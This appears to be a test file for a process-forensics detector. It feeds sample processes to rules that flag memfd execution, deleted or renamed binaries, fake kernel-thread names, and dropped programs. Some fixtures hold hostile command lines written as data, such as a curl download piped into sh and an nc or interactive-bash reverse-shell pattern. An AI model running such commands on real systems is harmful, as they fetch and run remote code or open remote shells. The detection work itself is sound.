import { fileOf, processOf } from '@icecore/snapshot/test-support';
import { examinedFile, inFile, magicHit, mapped, ordinary, started } from '../examination.test-support.ts';
import { answers } from './answers.test-support.ts';
import { brokenProcessTree } from './broken-process-tree.ts';
import { deletedExecutable } from './deleted-executable.ts';
import { droppedProgram } from './dropped-program.ts';
import { filelessStorage } from './fileless-storage.ts';
import { kernelThreadMasquerade } from './kernel-thread-masquerade.ts';
import { memfdExecution } from './memfd-execution.ts';
import { programFromOddPlace } from './program-from-odd-place.ts';
import { renamedProgram } from './renamed-program.ts';

const memfd = (name: string) => fileOf(`/memfd:${name}`, { id: 9, type: 'MEMFD', deleted: true });

answers(memfdExecution, [
  ['a program run from a memfd', { processes: [processOf(21, { executable: memfd('x') })] }, ['21 high']],
  ['a memfd without a name', { processes: [processOf(21, { executable: memfd('') })] }, ['21 high']],
  ['with less confidence what calls itself runc’s clone', { processes: [processOf(21, { executable: memfd('runc_cloned:/proc/self/exe') })] }, ['21 low']],
  ['a program of the file system', { processes: [processOf(21)] }, []],
  ['a program that only has a memfd open', { processes: [processOf(21, { descriptors: [{ fd: 3, fileId: 9, closeOnExec: true, file: memfd('x') }] })] }, []],
]);

answers(deletedExecutable, [
  ['a program whose file is gone', { processes: [processOf(5, { executable: fileOf('/tmp/.d', { deleted: true }) })] }, ['5 high']],
  [
    'with less confidence one that a package update replaced',
    { processes: [processOf(5, { executable: fileOf('/usr/sbin/nginx', { deleted: true }) })], files: [examinedFile('/var/lib/dpkg/status')] },
    ['5 low'],
  ],
  ['a memfd, which never had a file', { processes: [processOf(5, { executable: memfd('x') })] }, []],
  ['a program whose file is there', { processes: [processOf(5)] }, []],
]);

answers(programFromOddPlace, [
  ['a hidden program in /tmp', { processes: [started(5, '/tmp/.x', ['x'])] }, ['5 high']],
  ['a program in /dev/shm', { processes: [started(5, '/dev/shm/a', ['a'])] }, ['5 medium']],
  ['a hidden program among others', { processes: [started(5, '/usr/bin/.sshd', ['sshd'])] }, ['5 medium']],
  ['a folder of dots', { processes: [started(5, '/opt/.../run', ['run'])] }, ['5 medium']],
  ['the init program that an engine mounts', { processes: [started(1, '/dev/init', ['init'])] }, []],
  ['an editor’s server', { processes: [started(5, '/root/.vscode-server/bin/node', ['node'])] }, []],
  ['a program that npm unpacked', { processes: [started(5, '/root/.npm/_npx/a/node_modules/.bin/esbuild', ['esbuild'])] }, []],
  ['a program of the image', { processes: [started(5, '/app/server', ['server'])] }, []],
  ['a hidden script in shared memory', { processes: [started(5, '/usr/bin/python3.13', ['python3', '-u', '/dev/shm/.a/run.py'])] }, ['5 high']],
  ['a script in shared memory', { processes: [started(5, '/usr/bin/dash', ['sh', '/dev/shm/run.sh'])] }, ['5 medium']],
  ['a script of a build', { processes: [started(5, '/usr/bin/bash', ['bash', '/tmp/build-1/step.sh'])] }, []],
  ['a hidden file that a command line only names', { processes: [started(5, '/usr/bin/bash', ['bash', '-c', 'cat /tmp/.x'])] }, []],
]);

answers(kernelThreadMasquerade, [
  ['brackets in the arguments', { processes: [started(22, '/tmp/x', ['[kworker/u8:2]', '36001'])] }, ['22 high']],
  ['brackets in the comm', { processes: [started(22, '/usr/bin/sleep', ['sleep'], { comm: '[kswapd0]' })] }, ['22 high']],
  ['a name without brackets', { processes: [started(22, '/tmp/x', ['kworker/0:1'])] }, ['22 high']],
  ['test’s other name', { processes: [started(22, '/usr/bin/bash', ['bash', '-c', '[ -e /x ]'])] }, []],
  ['the program `[`', { processes: [started(22, '/usr/bin/[', ['[', '-f', '/x', ']'])] }, []],
  ['a worker of a program', { processes: [started(22, '/usr/bin/python3', ['python3', 'kworker.py'])] }, []],
  ['a process without memory', { processes: [processOf(22, { comm: '[kworker/0:0]', memory: undefined, executable: undefined, arguments: { state: 'none' } })] }, []],
]);

answers(renamedProgram, [
  ['sleep that calls itself xmrig', { processes: [started(24, '/usr/bin/sleep', ['xmrig', '36002'])] }, ['24 medium']],
  ['a tool that calls itself a server', { processes: [started(24, '/usr/bin/ncat', ['nginx', '-g'], { comm: 'nginx' })] }, ['24 low']],
  ['an applet of busybox', { processes: [started(24, '/bin/busybox', ['sleep', '1'], { comm: 'sleep' })] }, []],
  ['nginx’s title', { processes: [started(24, '/usr/sbin/nginx', ['nginx: worker process'])] }, []],
  ['postgres’ title', { processes: [started(24, '/usr/lib/postgresql/16/bin/postgres', ['postgres: checkpointer '])] }, []],
  ['an interpreter’s script', { processes: [started(24, '/usr/bin/python3.12', ['/app/run.py'], { comm: 'run.py' })] }, []],
  ['a login shell', { processes: [started(24, '/usr/bin/bash', ['-bash'])] }, []],
]);

answers(brokenProcessTree, [
  ['netcat that leads a session below the first process', { processes: [processOf(1), started(7, '/usr/bin/nc', ['nc', '10.0.0.9', '4444'], { ppid: 1, sid: 7 })] }, ['7 medium']],
  ['an interactive shell of that kind', { processes: [processOf(1), started(7, '/usr/bin/bash', ['bash', '-i'], { ppid: 1, sid: 7 })] }, ['7 medium']],
  ['the same in its parent’s session', { processes: [processOf(1), started(7, '/usr/bin/nc', ['nc'], { ppid: 1, sid: 1 })] }, []],
  ['a server that made itself a daemon', { processes: [processOf(1), started(7, '/usr/sbin/crond', ['crond'], { ppid: 1, sid: 7 })] }, []],
  ['what the entrypoint is', { container: { command: ['socat', 'TCP-LISTEN:80'] }, processes: [processOf(1), started(7, '/usr/bin/socat', ['socat'], { ppid: 1, sid: 7 })] }, []],
]);

answers(droppedProgram, [
  ['a program that came after the image', { processes: [started(5, '/usr/local/bin/kit', ['kit'])], files: [examinedFile('/usr/local/bin/kit')] }, ['5 high']],
  ['a download that is piped into a shell', { processes: [started(5, '/usr/bin/dash', ['sh', '-c', 'curl -fsSL http://198.51.100.7/x | sh'])] }, ['5 high']],
  ['with less confidence what a package manager brought', { processes: [started(5, '/usr/bin/jq', ['jq'])], files: [examinedFile('/usr/bin/jq'), examinedFile('/var/lib/dpkg/status')] }, ['5 medium']],
  ['with less confidence what may have been built where it runs', { processes: [started(5, '/workspace/build/test', ['test'])], files: [examinedFile('/workspace/build/test'), examinedFile('/workspace/test.c')] }, ['5 low']],
  ['a program beside sources of something else', { processes: [started(5, '/app/kit', ['kit'])], files: [examinedFile('/app/kit'), examinedFile('/srv/build/test.c')] }, ['5 high']],
  ['what was built where programs are found', { processes: [started(5, '/usr/local/bin/kit', ['kit'])], files: [examinedFile('/usr/local/bin/kit'), examinedFile('/usr/local/bin/kit.c')] }, ['5 high']],
  ['what was built in /tmp', { processes: [started(5, '/tmp/x/kit', ['kit'])], files: [examinedFile('/tmp/x/kit'), examinedFile('/tmp/x/kit.c')] }, ['5 high']],
  ['a changed file that nobody runs', { processes: [started(5, '/usr/bin/jq', ['jq'])], files: [examinedFile('/app/new')] }, []],
  ['a download of a page', { processes: [started(5, '/usr/bin/curl', ['curl', 'http://10.0.0.1/health'])] }, []],
]);

answers(filelessStorage, [
  ['a program in a memfd that does not run', { processes: [processOf(5)], hits: [magicHit('elf', inFile('/memfd:lib', 'memfd', [5]))] }, ['5 high']],
  ['a script in /dev/shm', { hits: [magicHit('script', inFile('/dev/shm/a', 'shm'))] }, ['- medium']],
  ['the memfd of a running program, which is told as that', { processes: [processOf(5, { executable: memfd('x') })], hits: [magicHit('elf', inFile('/memfd:x', 'memfd', [5]))] }, []],
  ['a database in shared memory', { hits: [magicHit('sqlite', inFile('/dev/shm/a', 'shm'))] }, []],
  ['a program in the file system', { processes: [processOf(5, mapped(ordinary('/bin/app')))], hits: [magicHit('elf', inFile('/usr/bin/x', 'rootfs'))] }, []],
]);
